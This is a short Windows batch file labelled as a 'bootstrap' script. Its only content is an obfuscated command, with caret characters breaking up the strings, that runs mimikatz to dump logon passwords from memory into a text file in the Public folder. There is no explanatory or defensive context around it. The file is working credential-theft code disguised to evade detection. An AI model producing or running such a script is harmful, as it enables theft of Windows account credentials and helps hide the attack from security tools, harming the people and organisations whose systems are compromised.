REM bootstrap 5047 v1
@echo off
set "skkn=m^im^i^k^a^t^z.^exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > ^C:\Us^e^rs\Publ^ic\^m.^txt"
call %skkn%
